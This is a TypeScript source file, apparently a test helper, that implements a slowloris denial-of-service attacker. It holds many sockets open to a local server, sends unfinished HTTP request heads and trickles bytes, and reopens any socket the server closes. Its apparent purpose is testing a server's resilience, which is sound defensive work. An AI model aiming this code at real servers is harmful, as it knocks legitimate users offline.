/**
 * A slow-header attacker: `count` sockets to a server that each send the start of a request and
 * then one more header byte now and then, never finishing the head (slowloris). With `reopen`, a
 * socket the server closes is replaced at once, so the count stays up for as long as the attack
 * runs (the waves that kept genuine deliveries out for about 40 s each).
 */
import { connect, type Socket } from 'node:net'

export interface SlowSockets {
  /** Sockets connected right now. */
  open(): number
  /** Sockets the server closed (each replaced when `reopen`). */
  closedByServer(): number
  /** Resolves once `count` sockets are connected at the same time. */
  ready: Promise<void>
  stop(): void
}

export function openSlowSockets(
  port: number,
  count: number,
  options: { path?: string; reopen?: boolean; trickleMs?: number } = {}
): SlowSockets {
  const sockets = new Set<Socket>()
  let connected = 0
  let closed = 0
  let stopped = false
  let markReady: () => void = () => undefined
  const ready = new Promise<void>((resolve) => (markReady = resolve))
  const trickle = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write('X')
  }, options.trickleMs ?? 500)

  const open = (): void => {
    if (stopped) return
    const socket = connect(port, '127.0.0.1')
    sockets.add(socket)
    let isConnected = false
    socket.setNoDelay(true)
    socket.on('connect', () => {
      isConnected = true
      connected++
      socket.write(`POST ${options.path ?? '/'} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: `)
      if (connected >= count) markReady()
    })
    socket.on('error', () => undefined)
    socket.on('data', () => undefined)
    socket.on('close', () => {
      sockets.delete(socket)
      if (isConnected) connected--
      if (stopped) return
      closed++
      if (options.reopen) setImmediate(open)
    })
  }
  for (let i = 0; i < count; i++) open()

  return {
    open: () => connected,
    closedByServer: () => closed,
    ready,
    stop() {
      stopped = true
      clearInterval(trickle)
      for (const socket of sockets) socket.destroy()
      sockets.clear()
    }
  }
}
